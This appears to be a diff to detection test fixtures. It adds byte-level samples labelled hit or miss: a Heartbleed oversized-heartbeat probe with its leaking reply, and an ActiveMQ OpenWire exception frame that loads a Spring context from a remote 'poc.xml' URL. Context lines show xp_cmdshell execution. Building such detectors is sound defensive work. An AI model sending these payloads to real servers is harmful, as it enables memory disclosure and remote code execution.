@@ -158,6 +158,24 @@ const oob = [
   ob.miss('names', 'names that contain the words', ['dnslog.cn.example.com', 'myceye.io.example.net', 'www.example.cn'].flatMap((h) => [c(query(h)), s(reply(h, '192.0.2.7'))]), { udp: true }),
 ];
 
+// --- OpenSSL, ActiveMQ
+const clientHello = c(hex('16030200dc010000d8030253435b909d9b720bbc0cbc2b92a84897cfbd3904cc160a8503909f770433d4de000066c014'), noise(175, 5));
+const serverHello = s(hex('160302003a020000360302'), noise(51, 6), hex('16030200040e000000'));
+const hb = of('product/heartbleed', 443);
+const heartbeat = [
+  hb.hit('leak', 'succeeded', 'hello, a heartbeat that claims 16 KiB, and a long answer', [clientHello, serverHello, c(hex('1803020003014000')), s(hex('1803024000024000'), noise(1200, 7))]),
+  hb.hit('repaired', 'attempted', 'the same, answered by an alert', [clientHello, serverHello, c(hex('1803020003014000')), s(hex('15030200020228'))]),
+  hb.miss('heartbeat', 'a heartbeat of the length that it says', [clientHello, serverHello, c(hex('1803020023010010'), noise(32, 8)), s(hex('1803020023020010'), noise(32, 8))]),
+];
+const wire = (...parts) => { const body = b(...parts); const size = Buffer.alloc(4); size.writeUInt32BE(body.length); return b(size, body); };
+const wireText = (v) => b([1, v.length >> 8, v.length & 255], v);
+const greeting = s(wire([1], 'ActiveMQ', hex('0000000c0100000100'), noise(40, 9)));
+const am = of('java/activemq-openwire', 61616);
+const openwire = [
+  am.hit('context', 'attempted', 'the broker\'s greeting, then an exception that names a context', [greeting, c(wire([0x1f], hex('00000000000000000001'), [1], wireText('org.springframework.context.support.ClassPathXmlApplicationContext'), wireText('http://203.0.113.66:8000/poc.xml')))]),
+  am.miss('messages', 'a client that sends a text about such a context', [greeting, c(wire([0x1c], hex('0000000a'), wireText('see org.springframework.context.support.ClassPathXmlApplicationContext and http://docs.example.com/'))), s(wire([0x1e], hex('00000001')))]),
+];
+
 // --- SQL Server
 const utf16 = (t) => Buffer.from(t, 'utf16le');
 const tds = (type, ...parts) => { const body = b(...parts); return b([type, 1, (body.length + 8) >> 8, (body.length + 8) & 255, 0, 0, 1, 0], body); };
@@ -170,4 +188,4 @@ const mssql = [
   mq.hit('disabled', 'attempted', 'the component is turned off', [...prelogin, batch("exec xp_cmdshell 'dir'"), s(tds(4, hex('aa'), utf16("SQL Server blocked access to procedure 'sys.xp_cmdshell'")))]),
   mq.miss('report', 'a report', [...prelogin, batch('SELECT name, total FROM orders WHERE day = 20191018'), ok]),
 ];
-export default [...ldap, ...rmi, ...t3s, ...iiop, ...ghostcat, ...frp, ...frpTls, ...nps, ...venom, ...reverse, ...socks, ...rdp, ...stage, ...ghost, ...mining, ...bindShell, ...prompts, ...beacon, ...oob, ...mssql, ...windows];
+export default [...heartbeat, ...openwire, ...ldap, ...rmi, ...t3s, ...iiop, ...ghostcat, ...frp, ...frpTls, ...nps, ...venom, ...reverse, ...socks, ...rdp, ...stage, ...ghost, ...mining, ...bindShell, ...prompts, ...beacon, ...oob, ...mssql, ...windows];
